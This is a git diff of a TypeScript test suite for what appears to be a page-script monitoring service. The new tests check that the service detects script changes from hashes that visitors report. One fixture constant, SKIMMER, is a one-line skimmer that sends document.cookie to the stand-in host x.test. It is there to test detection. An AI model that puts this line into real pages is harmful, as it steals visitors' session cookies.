@@ -1,17 +1,23 @@
 import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
 import { once } from 'node:events';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { after, before, it } from 'node:test';
 import { gzipSync } from 'node:zlib';
-import { sampleScript } from '../../src/areas/page-monitoring/fixtures/sample-observation.ts';
+import {
+  sampleHash,
+  sampleScript,
+} from '../../src/areas/page-monitoring/fixtures/sample-observation.ts';
 import type { PageFinding } from '../../src/contracts/events/page-finding.ts';
+import type { PageObservation } from '../../src/contracts/events/page-observation.ts';
 import { describeOnEachDatabase } from '../support/databases.ts';
 import { openTestApi, type TestApi } from '../support/test-api.ts';
 
 const HOUR = 3_600_000;
 const CLEAN = 'document.title = "Welcome";';
 const SKIMMER = 'new Image().src = "//x.test/?" + document.cookie';
+const hashOf = (source: string) => createHash('sha256').update(source).digest('hex');
 const never = new AbortController().signal;
 
 describeOnEachDatabase('fetching of scripts', (kind) => {
@@ -46,18 +52,33 @@ describeOnEachDatabase('fetching of scripts', (kind) => {
 
   async function see(zoneId: string, url: string, count = 3): Promise<void> {
     const now = api.clock.now();
-    const seen = sampleScript(zoneId, { url, count, firstSeenAt: now, lastSeenAt: now });
+    await deliver(sampleScript(zoneId, { url, count, firstSeenAt: now, lastSeenAt: now }));
+  }
+
+  /** Visitors report the hash of what they were given. */
+  async function receive(zoneId: string, url: string, ...sources: string[]): Promise<void> {
+    await deliver(...sources.map((source) => sampleHash(zoneId, hashOf(source), { url })));
+  }
+
+  async function deliver(...observations: PageObservation[]): Promise<void> {
     const subscription = api.core.modules
       .flatMap((module) => module.subscriptions ?? [])
       .find(({ topic }) => topic === 'page-observations');
-    const message = { id: `m-${++messages}`, source: 'edge-1', publishedAt: now, payload: seen };
-    await subscription?.handle([message], never);
+    const batch = observations.map((payload) => ({
+      id: `m-${++messages}`,
+      source: 'edge-1',
+      publishedAt: api.clock.now(),
+      payload,
+    }));
+    assert.deepEqual(await subscription?.handle(batch, never), { refused: 0 });
   }
 
-  async function run(): Promise<void> {
+  async function run(job = 'page-script-fetch'): Promise<void> {
     const jobs = api.core.modules.flatMap((module) => module.jobs);
-    await jobs.find(({ name }) => name === 'page-script-fetch')?.run(never);
+    await jobs.find(({ name }) => name === job)?.run(never);
   }
+
+  const fetches = (path: string) => fetched.filter((each) => each === path).length;
 
   async function only(zoneId: string) {
     const base = `/zones/${zoneId}/page_shield/scripts`;
@@ -68,12 +89,12 @@ describeOnEachDatabase('fetching of scripts', (kind) => {
     return { script, reasons };
   }
 
-  function findings(zoneId: string): string[] {
+  function found(zoneId: string): PageFinding[] {
     const all = (api.published.get('page-findings') ?? []) as PageFinding[];
-    return all
-      .filter((each) => each.zoneId === zoneId && !each.kind.startsWith('new_'))
-      .map((each) => each.kind);
+    return all.filter((each) => each.zoneId === zoneId && !each.kind.startsWith('new_'));
   }
+
+  const findings = (zoneId: string) => found(zoneId).map((each) => each.kind);
 
   it('happens when a script becomes active and once a day, and tells of changes', async () => {
     const zoneId = await newZone();
@@ -86,7 +107,7 @@ describeOnEachDatabase('fetching of scripts', (kind) => {
     await run();
     await run();
     const first = await only(zoneId);
-    assert.equal(fetched.filter((path) => path === '/shop.js').length, 1);
+    assert.equal(fetches('/shop.js'), 1);
     assert.match(first.script.hash, /^[0-9a-f]{64}$/);
     assert.ok(first.script.js_integrity_score > 50);
     assert.equal(first.script.versions.length, 1);
@@ -150,10 +171,91 @@ describeOnEachDatabase('fetching of scripts', (kind) => {
     await run();
     await api.clock.advance(8 * 24 * HOUR);
     await run();
-    const count = () => fetched.filter((path) => path === '/rare.js').length;
-    assert.equal(count(), 1);
+    assert.equal(fetches('/rare.js'), 1);
     await see(zoneId, `${origin}/rare.js`, 1);
     await run();
-    assert.equal(count(), 2);
+    assert.equal(fetches('/rare.js'), 2);
+  });
+
+  it('follows at once when visitors received something else, and tells what it did not get', async () => {
+    const zoneId = await newZone();
+    const path = '/served.js';
+    const url = `${origin}${path}`;
+    contents.set(path, CLEAN);
+    await receive(zoneId, url, 'before it was ever seen');
+    await see(zoneId, url);
+    await run();
+    await receive(zoneId, url, CLEAN);
+    await run();
+    assert.equal(fetches(path), 1);
+
+    // A change that visitors saw before the daily fetch.
+    const changed = `${CLEAN}//2`;
+    contents.set(path, changed);
+    await receive(zoneId, url, changed, CLEAN);
+    await run();
+    assert.equal(fetches(path), 2);
+    assert.deepEqual(
+      found(zoneId).map(({ kind: what, details }) => [what, details]),
+      [['code_change', { hash: hashOf(changed), hash_before: hashOf(CLEAN) }]],
+    );
+
+    // Code that only visitors are given.
+    await receive(zoneId, url, SKIMMER);
+    await run();
+    await receive(zoneId, url, SKIMMER, CLEAN, changed);
+    await run();
+    assert.equal(fetches(path), 3);
+    const [, about, ...more] = found(zoneId);
+    assert.deepEqual(more, []);
+    assert.equal(about?.kind, 'code_change');
+    assert.equal(about?.resource.url, url);
+    assert.deepEqual(about?.details, {
+      hash: hashOf(SKIMMER),
+      fetched_hash: hashOf(changed),
+      received_by: 'visitors',
+    });
+  });
+
+  it('tells of ten hashes of a script that visitors received, until these are forgotten', async () => {
+    const zoneId = await newZone();
+    const path = '/personal.js';
+    const url = `${origin}${path}`;
+    contents.set(path, CLEAN);
+    await see(zoneId, url);
+    await run();
+    const visitors = Array.from({ length: 8 }, (_, n) => `for visitor ${n}`);
+    await receive(zoneId, url, ...visitors);
+    await receive(zoneId, url, 'a', 'b', 'c', 'd');
+    await run();
+    await receive(zoneId, url, 'e');
+    await run();
+    assert.equal(fetches(path), 2);
+    assert.equal(new Set(found(zoneId).map(({ id }) => id)).size, 10);
+    for (let days = 0; days <= 30; days += 6) {
+      await see(zoneId, url, 1);
+      await api.clock.advance(6 * 24 * HOUR);
+    }
+    await run('page-item-trim');
+    await receive(zoneId, url, 'e');
+    await run();
+    assert.equal(found(zoneId).length, 11);
+  });
+
+  it('looks for what visitors received when it can be had again', async () => {
+    const zoneId = await newZone();
+    const path = '/away.js';
+    const url = `${origin}${path}`;
+    contents.set(path, CLEAN);
+    await see(zoneId, url);
+    await run();
+    contents.delete(path);
+    await receive(zoneId, url, SKIMMER);
+    await run();
+    assert.deepEqual(findings(zoneId), []);
+    contents.set(path, CLEAN);
+    await api.clock.advance(HOUR);
+    await run();
+    assert.deepEqual(findings(zoneId), ['code_change']);
   });
 });
